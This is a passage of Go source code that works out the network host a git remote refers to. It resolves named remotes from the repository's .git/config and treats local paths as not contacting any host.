	if len(w) >= 2 {
		remote = w[1]
	}
	if strings.Contains(remote, "://") || strings.Contains(remote, "@") || strings.Contains(remote, ":") && !strings.HasPrefix(remote, "/") {
		return []string{remoteHost(remote)}
	}
	if u := remoteURL(cwd, remote); u != "" {
		if strings.HasPrefix(u, "/") || strings.HasPrefix(u, ".") || strings.HasPrefix(u, "file://") {
			return nil // a local remote
		}
		return []string{remoteHost(u)}
	}
	return []string{"git remote " + remote}
}

// remoteHost is the host of a git URL: https://h/x, ssh://u@h/x, u@h:x.
func remoteHost(u string) string {
	if strings.Contains(u, "://") {
		return hostOf(u)
	}
	h, _, _ := strings.Cut(u, ":")
	if at := strings.LastIndexByte(h, '@'); at >= 0 {
		h = h[at+1:]
	}
	return strings.ToLower(h)
}

// remoteURL reads the URL of a named remote from the repository's
// .git/config above cwd ("" when it cannot).
func remoteURL(cwd, name string) string {
	if cwd == "" {
		return ""
	}
	for dir := cwd; ; dir = filepath.Dir(dir) {
		b, err := readCapped(filepath.Join(dir, ".git", "config"), 1<<20)
		if err == nil {
			return parseRemoteURL(string(b), name)
		}
		if parent := filepath.Dir(dir); parent == dir {
			return ""
		}
	}
}

func parseRemoteURL(cfg, name string) string {
	in := false
	for _, line := range strings.Split(cfg, "\n") {
		l := strings.TrimSpace(line)
		if strings.HasPrefix(l, "[") {
			in = l == `[remote "`+name+`"]`
			continue
		}
		if in {
			k, v, ok := strings.Cut(l, "=")
			if ok && strings.TrimSpace(k) == "url" {
				return strings.TrimSpace(v)
			}
		}
	}
	return ""
}
